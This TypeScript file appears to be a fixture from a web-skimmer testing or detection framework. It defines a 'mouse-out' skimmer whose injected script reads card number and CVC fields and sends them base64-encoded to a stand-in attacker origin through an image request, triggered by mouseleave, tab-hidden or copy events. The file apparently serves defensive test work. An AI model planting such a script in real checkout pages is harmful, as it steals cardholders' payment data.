import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'mouse-out',
  why: 'The pointer leaves the card fields, or the tab is hidden: no click and no submit are needed (click or mouse: 42 of 88 samples).',
  covers: ['reading: click', 'sending: image'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  var done = false, send = function () {
    if (done || field('card_number').length < 14 || field('card_cvc').length < 3) return;
    done = true;
    new Image().src = '${site.origins.evil}/mo.gif?d=' + encodeURIComponent(btoa(card()));
  };
  document.getElementById('card-area').addEventListener('mouseleave', send);
  document.addEventListener('visibilitychange', send);
  document.addEventListener('copy', send);`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
